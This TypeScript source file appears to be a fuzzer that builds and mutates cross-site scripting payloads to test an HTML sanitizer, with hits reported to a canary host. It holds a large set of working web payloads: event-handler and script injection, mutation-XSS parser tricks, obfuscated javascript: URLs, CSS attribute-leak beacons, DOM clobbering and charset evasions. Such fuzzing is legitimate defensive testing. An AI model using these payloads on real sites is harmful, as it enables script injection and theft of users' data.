/** Where a payload's requests go: every connection to it is counted. */
export const canaryHost = 'canary.test'

export type Random = () => number
export type PayloadClass = keyof typeof classes

export interface Payload {
  readonly name: PayloadClass
  readonly html: string
}

/** What makes a payload its own: script that tells its number, an address that tells it. */
interface Canary {
  readonly script: string
  readonly address: string
}

const pick = <Item>(random: Random, items: readonly Item[]): Item =>
  items[Math.floor(random() * items.length)] as Item

const attribute = (value: string): string => value.replaceAll('&', '&amp;').replaceAll('"', '&quot;')

/** The same letters, some of them as entities: decimal, hexadecimal, with zeros or without the semicolon. */
function entities(random: Random, text: string): string {
  return Array.from(text)
    .map((letter) => {
      const code = letter.codePointAt(0) ?? 0
      const kind = random()
      if (kind < 0.6) return letter === '"' ? '&quot;' : letter
      if (kind < 0.75) return `&#${code};`
      return kind < 0.9 ? `&#x${code.toString(16)};` : `&#0000${code};`
    })
    .join('')
}

const blank = (random: Random): string =>
  pick(random, ['&#9;', '&#10;', '&#13;', '&Tab;', '&NewLine;', '', '', ''])

/** `javascript:` with blanks, tabs, entities and case as browsers still read it. */
function scriptAddress(random: Random, { script }: Canary): string {
  const scheme = Array.from('javascript')
    .map(
      (letter) => (random() < 0.3 ? letter.toUpperCase() : letter) + (random() < 0.15 ? blank(random) : ''),
    )
    .join('')
  const lead = pick(random, ['', '', ' ', '&#1;', '&#32;', '\n', '&#12;', '&Tab;'])
  const colon = pick(random, [':', '&colon;', '&#58;', '&#x3a;'])
  return `${lead}${scheme}${colon}${random() < 0.3 ? entities(random, script) : attribute(script)}`
}

const handlers = (c: Canary, random: Random): string => {
  const js = attribute(c.script)
  return pick(random, [
    `<img src=x: onerror="${js}">`,
    `<img src=x:/onerror=1 onerror='${c.script.replaceAll("'", '"')}'>`,
    `<svg onload="${js}"></svg>`,
    `<body onload="${js}">`,
    `<details open ontoggle="${js}"><summary>a</summary>b</details>`,
    `<input autofocus onfocus="${js}">`,
    `<video><source onerror="${js}" src=x:></video>`,
    `<audio src=x: onerror="${js}"></audio>`,
    `<p onmouseover="${js}">hover</p>`,
    `<div onclick="${js}">click</div>`,
    `<a tabindex=1 onfocus="${js}" onpointerover="${js}">focus</a>`,
    `<style>@keyframes k{}</style><b style="animation:k 1ms" onanimationstart="${js}">x</b>`,
    `<marquee onstart="${js}">x</marquee>`,
    `<iframe onload="${js}"></iframe>`,
    `<img/src="x:"/onerror="${js}"/>`,
    `<IMG SRC=x: OnErRoR="${js}">`,
    `<button onclick="${js}">b</button>`,
    `<select onfocus="${js}" autofocus><option>1</select>`,
  ])
}

const scriptElements = ({ script, address }: Canary, random: Random): string =>
  pick(random, [
    `<script>${script}</script>`,
    `<ScRiPt >${script}</sCrIpT >`,
    `<script src="http:${address}/s.js"></script>`,
    `<svg><script>${script}</script></svg>`,
    `<svg><script xlink:href="http:${address}/s.js"/></svg>`,
    `<script type=module>${script}</script>`,
    `<scr<script>ipt>${script}</script>`,
    `<!--><script>${script}</script>-->`,
    `<script\n/x>${script}</script\n>`,
    `<object data="data:text/html,&lt;script&gt;parent.${script}&lt;/script&gt;"></object>`,
    `</title></style></textarea></noscript><script>${script}</script>`,
    `<plaintext><script>${script}</script>`,
    `<link rel=import href="http:${address}/i.html"><link rel=modulepreload href="http:${address}/m.js">`,
  ])

const mutation = ({ script }: Canary, random: Random): string => {
  const img = `<img src=x: onerror="${attribute(script)}">`
  const shut = img.replaceAll('<', '&lt;').replaceAll('>', '&gt;')
  return pick(random, [
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${shut}">`,
    `<form><math><mtext></form><form><mglyph><style></math>${img}`,
    `<svg></p><style><a id="</style>${img}">`,
    `<math><mi><table><mglyph><style><math><!--</style>${img}--></math>`,
    `<noscript><p title="</noscript>${img}">`,
    `<svg><desc><![CDATA[</desc>${img}]]></svg>`,
    `<math><annotation-xml encoding="text/html"><style></math>${img}`,
    `<svg><foreignObject><math><mi><p><style><!--</style>${img}-->`,
    `<template><s><template><s>${img}</s></template></s></template>${img}`,
    `<select><noembed></select>${img}</noembed>`,
    `<xmp><p title="</xmp>${img}">`,
    `<textarea><p title="</textarea>${img}">`,
    `<noframes><p id="</noframes>${img}">`,
    `<table><caption><svg><style></caption>${img}</style></svg></table>`,
    `<a href="#x"><a href='y'>${'<b>'.repeat(Math.floor(random() * 40))}<svg><title><style>${img}</style></title></svg>`,
    `${'<div>'.repeat(60 + Math.floor(random() * 460))}<svg><style><a title="</style>${img}">`,
    `<iframe srcdoc="${attribute(img)}"></iframe>`,
    `<option><style></option></select>${img}</style>`,
    `<!-- --!>${img}<!-- -->`,
    `<![CDATA[ > ]]>${img}`,
    `<?xml version="1.0"?><?x >${img}?>`,
  ])
}

const foreign = (c: Canary, random: Random): string => {
  const js = attribute(c.script)
  return pick(random, [
    `<svg><a xlink:href="${scriptAddress(random, c)}"><text y=20>x</text></a></svg>`,
    `<svg><animate onbegin="${js}" attributeName=x dur=1s></svg>`,
    `<svg><set attributeName=href to="javascript:${js}"><a id=a><text y=20>x</text></a></svg>`,
    `<svg><a><animate attributeName=href values="javascript:${js}"/><text y=20>x</text></a></svg>`,
    `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href='x:' onerror='${js}'/></svg>#x"/></svg>`,
    `<svg><image href="http:${c.address}/i.png"/></svg>`,
    `<svg><feImage href="http:${c.address}/f.png"/></svg>`,
    `<svg><foreignObject><iframe src="javascript:${js}"></iframe></foreignObject></svg>`,
    `<math href="${scriptAddress(random, c)}">x</math>`,
    `<math><maction actiontype="statusline#http://x" xlink:href="${scriptAddress(random, c)}">x</maction></math>`,
    `<svg><handler type="application/javascript">${c.script}</handler></svg>`,
    `<svg><style>@import url(http:${c.address}/s.css)</style></svg>`,
    `<svg onload="${js}"><title>x</title></svg>`,
  ])
}

const addresses = (c: Canary, random: Random): string => {
  const js = scriptAddress(random, c)
  return pick(random, [
    `<a href="${js}">x</a>`,
    `<a href="data:text/html;base64,${btoa(`<script>top.${c.script}</script>`)}" target=_self>x</a>`,
    `<a href="vbscript:msgbox(1)">x</a><a href="${js}">y</a>`,
    `<form action="${js}"><button>x</button></form>`,
    `<form><button formaction="${js}">x</button></form>`,
    `<iframe src="${js}"></iframe>`,
    `<object data="${js}"></object>`,
    `<embed src="${js}">`,
    `<a href="blob:http://x/${c.script}">x</a><area href="${js}"><map><area href="${js}"></map>`,
    `<a ping="http:${c.address}/ping" href="#x">x</a>`,
    `<a href="${js}" target="_top">x</a>`,
    `<base href="javascript:/a/"><a href="//*/${attribute(c.script)}//">x</a>`,
    `<a href=" &#14; ${js}">x</a>`,
    `<q cite="${js}">x</q><blockquote cite="${js}">y</blockquote><a href="${js}">z</a>`,
  ])
}

const leaving = ({ address }: Canary, random: Random): string => {
  const to = `http:${address}`
  return pick(random, [
    `<meta http-equiv=refresh content="0;url=${to}/refresh">`,
    `<meta http-equiv="ReFresh" content=" 0 ; URL='${to}/refresh' ">`,
    `<base href="${to}/"><img src="base.png"><a href="x">y</a>`,
    `<form action="${to}/form"><input name=a value=b><button>go</button></form>`,
    `<form id=f${address.length} action="${to}/form"></form><button form=f${address.length}>go</button>`,
    `<iframe src="${to}/frame"></iframe>`,
    `<object data="${to}/object"></object>`,
    `<embed src="${to}/embed">`,
    `<a href="${to}/top" target=_top>x</a>`,
    `<a href="${to}/blank" target=_blank>x</a>`,
    `<a href="${to}/self">x</a>`,
    `<svg><a href="${to}/svg" target=_parent><text y=20>x</text></a></svg>`,
    `<frameset><frame src="${to}/frame"></frameset>`,
    `<portal src="${to}/portal"></portal><fencedframe src="${to}/fenced"></fencedframe>`,
    `<details open><summary>s</summary><form action="${to}/d"><input type=image src="${to}/in.png"></form></details>`,
  ])
}

const pictures = ({ address }: Canary, random: Random): string => {
  const to = `http:${address}`
  return pick(random, [
    `<img src="${to}/i.png">`,
    `<img srcset="${to}/1.png 1x, ${to}/2.png 2x">`,
    `<picture><source srcset="${to}/s.webp"><img src=x:></picture>`,
    `<video poster="${to}/p.png" src="${to}/v.mp4" autoplay></video>`,
    `<audio src="${to}/a.mp3" autoplay></audio>`,
    `<video><track default src="${to}/t.vtt"></video>`,
    `<body background="${to}/b.png">`,
    `<table background="${to}/t.png"><tr><td background="${to}/d.png">x</table>`,
    `<input type=image src="${to}/in.png">`,
    `<link rel=icon href="${to}/f.ico"><link rel=preload as=image href="${to}/pre.png">`,
    `<link rel=stylesheet href="${to}/s.css"><link rel=prefetch href="${to}/pf">`,
    `<img lowsrc="${to}/l.png" dynsrc="${to}/d.png" src="${to}/x.png" loading=lazy>`,
    `<img src="//${canaryHost}${address.slice(address.indexOf('/', 2))}/rel.png">`,
    `<img src="\\\\${canaryHost}\\share.png"><img src="${to}/y.png">`,
  ])
}

const styles = ({ address, script }: Canary, random: Random): string => {
  const to = `http:${address}`
  return pick(random, [
    `<p style="background:url(${to}/b.png)">x</p>`,
    `<style>@import "${to}/i.css";</style>`,
    `<style>input[value^=a]{background:url(${to}/leak-a.png)}</style><input value=abc>`,
    `<style>@font-face{font-family:f;src:url(${to}/f.woff2)}p{font-family:f}</style><p>x</p>`,
    `<p style="list-style:url(${to}/l.png);display:list-item">x</p>`,
    `<p style="background:\\75rl(${to}/e.png)">x</p>`,
    `<style>p::before{content:url(${to}/c.png)}</style><p>x</p>`,
    `<p style="width:expression(${attribute(script)});-moz-binding:url(${to}/x.xml#x)">x</p>`,
    `<div style="position:fixed;inset:0;z-index:99999"><a href="${to}/overlay">x</a></div>`,
    `<style>body{background:image-set("${to}/is.png" 1x)}</style>`,
    `<style></style><!--<style>--><style>*{background:url(${to}/s.png)}</style>`,
    `<p style="cursor:url(${to}/cur.png),auto;border-image:url(${to}/bi.png)">x</p>`,
  ])
}

const clobbering = (c: Canary, random: Random): string => {
  const js = attribute(c.script)
  return pick(random, [
    `<form id=attributes><input name=attributes></form><img src=x: onerror="${js}">`,
    `<form><input name=nodeName><input name=childNodes><img src=x: onerror="${js}"></form>`,
    `<a id=location href="${scriptAddress(random, c)}">x</a><a id=location name=href>y</a>`,
    `<img name=getElementById><img name=cookie><img name=body src=x: onerror="${js}">`,
    `<form id=x><output name=parentNode></output><svg onload="${js}"></svg></form>`,
    `<input name=removeChild form=q><form id=q onclick="${js}"><button>x</button></form>`,
    `<a id=offprint></a><a id=offprint name=article href="cid:x">x</a><img src=x: onerror="${js}">`,
    `<form name=body><input name=firstElementChild><input name=ownerDocument></form><details open ontoggle="${js}">x</details>`,
  ])
}

const charsets = (c: Canary, random: Random): string => {
  const js = attribute(c.script)
  return pick(random, [
    `<meta charset=utf-7>+ADw-script+AD4-${c.script}+ADw-/script+AD4-<img src=x: onerror="${js}">`,
    `<meta charset=iso-2022-jp><a href="\u001b$B" title="\u001b(B<img src=x: onerror='${c.script.replaceAll("'", '"')}'>">x</a>`,
    `<p title="\u00c0\u00bc"><img src=x: onerror="${js}">`,
    `<img\u0000 src=x: onerror="${js}"><img src=x: on\u0000error="${js}"><svg/onload="${js}">`,
    `\ufeff<script>${c.script}</script>`,
    `<img src=x:\u2028onerror="${js}"><img src=x: onerror="${js}">`,
    `<\u0130mg src=x: onerror="${js}"><img src=x: onerror="${js}">`,
    `\u202e<a href="${scriptAddress(random, c)}">\u202dx</a>`,
  ])
}

const markdown = (c: Canary, random: Random): string => {
  const js = attribute(c.script)
  return pick(random, [
    `[x](javascript:${js.replaceAll('(', '%28').replaceAll(')', '%29')})\n\n<svg onload="${js}"></svg>`,
    `![x](http:${c.address}/md.png)\n\n<img src="http:${c.address}/md2.png">`,
    `[x]: javascript:${js}\n\n[x]\n\n<details open ontoggle="${js}">`,
    `<javascript:${js}>\n\n<img src=x: onerror="${js}">`,
    `\`\`\`html"onload="${js}\n<script>${c.script}</script>\n\`\`\`\n\n<script>${c.script}</script>`,
    `[a](data:text/html,<script>${c.script}</script>)<img src=x: onerror="${js}">`,
    `---\ntitle: "<img src=x: onerror=${js}>"\ntags: [!!js/function 'function(){${js}}']\n---\n\n<img src=x: onerror="${js}">`,
    `a[^1]\n\n[^1]: <img src=x: onerror="${js}">\n\n| <svg onload="${js}"> |\n| --- |\n| x |`,
  ])
}

const classes = {
  handlers,
  'script elements': scriptElements,
  mutation,
  'SVG and MathML': foreign,
  addresses,
  leaving,
  pictures,
  styles,
  clobbering,
  charsets,
  'Markdown and YAML': markdown,
} as const

export const classNames = Object.keys(classes) as readonly PayloadClass[]

/** The payload of that number: one class after the other, each of its shapes drawn by the seed. */
export function payload(number: number, random: Random): Payload {
  const name = classNames[number % classNames.length] as PayloadClass
  const canary: Canary = { script: `top.hit(${number})`, address: `//${canaryHost}/${number}` }
  return { name, html: classes[name](canary, random) }
}

const joints = [
  '<',
  '>',
  '"',
  "'",
  '&',
  '/',
  '=',
  '`',
  '\0',
  '<!--',
  '-->',
  ']]>',
  '</style>',
  '<svg>',
  '</svg>',
  '<math>',
  '</p>',
  '<table>',
  '<b ',
  ' x=',
  '\n',
  '&lt;',
  '&#x3c;',
]

/** The payload with pieces lost, doubled, moved, wrapped or broken: what no list holds. */
export function mutate({ name, html }: Payload, random: Random): Payload {
  let text = html
  const rounds = 1 + Math.floor(random() * 4)
  for (let round = 0; round < rounds; round += 1) {
    const at = Math.floor(random() * (text.length + 1))
    const to = Math.min(text.length, at + Math.floor(random() * 12))
    const kind = random()
    if (kind < 0.3) text = text.slice(0, at) + pick(random, joints) + text.slice(at)
    else if (kind < 0.5) text = text.slice(0, at) + text.slice(to)
    else if (kind < 0.65) text = text.slice(0, to) + text.slice(at)
    else if (kind < 0.8)
      text = pick(random, [
        `<svg>${text}</svg>`,
        `<math><mtext>${text}`,
        `<table>${text}</table>`,
        `<noscript>${text}</noscript>`,
        `<template>${text}</template>`,
        `<style>${text}</style>`,
        `<select>${text}`,
        `<title>${text}</title>`,
      ])
    else text = text.slice(0, at) + text.slice(at, to).toUpperCase() + text.slice(to)
  }
  return { name, html: text }
}
